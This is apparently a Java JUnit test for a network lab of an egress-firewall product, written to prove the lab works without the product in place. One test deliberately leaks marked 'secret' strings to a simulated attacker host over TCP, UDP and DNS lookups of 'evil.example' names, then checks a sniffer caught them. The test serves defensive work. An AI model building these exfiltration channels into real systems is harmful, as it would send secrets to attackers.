package io.fleetwall.laboratory;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.fleetwall.laboratory.internet.Site;
import io.fleetwall.laboratory.job.Action;
import io.fleetwall.laboratory.job.JobProcess;
import io.fleetwall.laboratory.job.Observation;
import io.fleetwall.laboratory.job.StreamNumbers;
import io.fleetwall.laboratory.net.Namespace;
import io.fleetwall.laboratory.process.Await;
import io.fleetwall.laboratory.sniffer.Packet;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.CleanupMode;
import org.junit.jupiter.api.io.TempDir;

/**
 * The laboratory without Fleetwall: all that the product must stop works here, or a demo that stops
 * it would prove nothing.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class LabTest {
    private static final Duration PATIENCE = Duration.ofSeconds(60);

    private Lab lab;
    private JobProcess job;

    @BeforeAll
    void open(@TempDir(cleanup = CleanupMode.ON_SUCCESS) Path directory) {
        lab = Lab.open(directory, List.of("a", "b"));
        job = lab.job("a");
    }

    @AfterAll
    void close() {
        job.close();
        lab.close();
        assertFalse(Namespace.exists("runner-a"), "nothing is left behind");
    }

    @Test
    void aJobResolvesANameAndFetchesOverTls() {
        Observation fetched =
                job.perform(new Action.Fetch("https://" + Site.REGISTRY.host() + "/"));
        assertTrue(fetched.reached(), fetched::toString);
        assertEquals("hello from " + Site.REGISTRY.host(), fetched.detail());
    }

    @Test
    void aNameThatDoesNotExistIsToldFromAConnectionThatFails() {
        assertEquals("name", job.perform(new Action.Fetch("http://nowhere.example/")).error());
        Observation closed = job.perform(new Action.Send(v4(Site.REGISTRY), 4, "hello"));
        assertEquals("refused", closed.error());
    }

    @Test
    void everyWayOutReachesTheAttackerAndTheSnifferSeesTheSecret() {
        for (Action way :
                List.of(
                        new Action.Send(v4(Site.ATTACKER), Site.DROP_PORT, "tcp4-secret"),
                        new Action.Send(v6(Site.ATTACKER), Site.DROP_PORT, "tcp6-secret"),
                        new Action.Datagram(v4(Site.ATTACKER), Site.TLS_PORT, "udp4-secret"),
                        new Action.Datagram(v6(Site.ATTACKER), Site.TLS_PORT, "udp6-secret"),
                        new Action.Ask(
                                v4(Site.ATTACKER_RESOLVER),
                                Action.Transport.TCP,
                                "dnstcp-secret.evil.example"),
                        new Action.Ask(
                                v4(Site.ATTACKER_RESOLVER),
                                Action.Transport.UDP,
                                "dnsudp-secret.evil.example"))) {
            Observation observation = job.perform(way);
            assertTrue(observation.reached(), () -> way + ": " + observation);
        }
        lab.sniffer().settle();
        for (String secret : List.of("tcp4", "tcp6", "udp4", "udp6", "dnstcp", "dnsudp")) {
            byte[] needle = (secret + "-secret").getBytes(StandardCharsets.US_ASCII);
            assertTrue(
                    lab.sniffer().count(packet -> isHostile(packet) && packet.contains(needle)) > 0,
                    secret);
        }
    }

    @Test
    void aRunnerKeepsItsOwnAddressOnTheInternet() {
        try (JobProcess other = lab.job("b")) {
            other.perform(new Action.Datagram(v4(Site.MIRROR), Site.ECHO_PORT, "who am I"));
        }
        lab.sniffer().settle();
        InetAddress second = InetAddress.ofLiteral("10.77.2.2");
        assertTrue(lab.sniffer().count(packet -> packet.source().equals(second)) > 0);
    }

    @Test
    void aDownloadAndAnEchoRunWithoutLossUntilTheyAreStopped() {
        job.perform(new Action.Download("page", "https://" + Site.MIRROR.host() + "/stream"));
        job.perform(new Action.Echo("echo", v4(Site.MIRROR), Site.ECHO_PORT));
        Await.orFail("50 chunks", PATIENCE, () -> received("page") > 50 && received("echo") > 50);
        for (String stream : List.of("page", "echo")) {
            Observation end = job.perform(new Action.Stop(stream));
            assertEquals(0, end.number(StreamNumbers.LOST), end::toString);
            assertEquals("", end.error(), end::toString);
        }
    }

    @Test
    void aProbeCountsWhatPassedAndWhatWasStopped() {
        job.perform(new Action.Probe("probe", v4(Site.MIRROR), v4(Site.ATTACKER), Site.DROP_PORT));
        Await.orFail(
                "ten probes",
                PATIENCE,
                () -> look("probe").number(StreamNumbers.DENIED_PASSED) > 9);
        Observation end = job.perform(new Action.Stop("probe"));
        assertEquals(0, end.number(StreamNumbers.ALLOWED_FAILED), end::toString);
        assertEquals(0, end.number(StreamNumbers.DENIED_STOPPED), end::toString);
    }

    private long received(String stream) {
        return look(stream).number(StreamNumbers.RECEIVED);
    }

    private Observation look(String stream) {
        return job.perform(new Action.Look(stream));
    }

    private static boolean isHostile(Packet packet) {
        return Site.at(packet.destination()).filter(Site::hostile).isPresent();
    }

    private static String v4(Site site) {
        return site.v4().getHostAddress();
    }

    private static String v6(Site site) {
        return site.v6().getHostAddress();
    }
}
